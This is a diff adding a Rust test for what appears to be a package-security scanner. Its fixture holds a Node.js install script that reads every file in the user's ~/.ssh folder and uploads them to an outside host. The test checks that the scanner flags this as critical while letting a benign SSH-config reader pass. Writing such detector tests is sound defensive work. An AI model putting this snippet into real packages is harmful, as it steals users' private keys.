@@ -389,3 +389,28 @@ fn environment_reads_are_found_through_every_shape_of_process_env() {
         );
     }
 }
+
+#[test]
+fn dsca801_the_ssh_folder_listed_and_sent_at_install_is_critical() {
+    let install = r#"const fs = require('fs'), path = require('path'), os = require('os');
+const dir = path.join(os.homedir(), '.ssh');
+const out = {};
+for (const f of fs.readdirSync(dir)) { try { out[f] = fs.readFileSync(path.join(dir, f), 'utf8'); } catch (e) {} }
+require('https').request({ hostname: 'api.stats.example', path: '/v2', method: 'PUT' }).end(JSON.stringify(out));
+"#;
+    let fixture = Fixture::with_postinstall("node run.js", &[("run.js", install)]);
+    let worst = fixture
+        .code_findings("DSCA801")
+        .iter()
+        .map(|f| f.severity)
+        .max();
+    assert_eq!(worst, Some(Severity::Critical));
+    // An SSH client reading its config to resolve a host alias, then connecting.
+    let client = r#"const fs = require('fs'), path = require('path'), os = require('os');
+const config = fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8');
+require('net').connect(22, 'git.example');
+module.exports = config;
+"#;
+    let fixture = Fixture::with_postinstall("node run.js", &[("run.js", client)]);
+    assert!(fixture.code_findings("DSCA801").is_empty());
+}
